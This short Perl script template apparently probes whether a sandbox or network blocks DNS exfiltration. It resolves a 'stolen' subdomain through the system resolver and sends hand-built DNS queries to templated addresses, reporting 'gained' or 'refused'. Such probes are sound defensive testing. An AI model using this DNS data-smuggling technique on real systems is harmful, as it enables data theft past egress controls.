# Carries data out in names: by the resolver of the system, and by a query of its own.
use strict; use warnings; use Socket;
my $found = gethostbyname('stolen.{{NAME}}');
print $found ? "gained: the name resolves\n" : "refused: the name does not resolve\n";
socket(my $socket, PF_INET, SOCK_DGRAM, 0) or die $!;
my $query = pack('n6', 1, 256, 1, 0, 0, 0) . pack('C/a C/a x n2', 'stolen', 'example', 1, 1);
for my $address (qw({{ADDRESSES}})) {
    my ($host, $port) = split /:/, $address;
    send($socket, $query, 0, sockaddr_in($port, inet_aton($host))) or print "refused: $address $!\n";
}
exit 9;
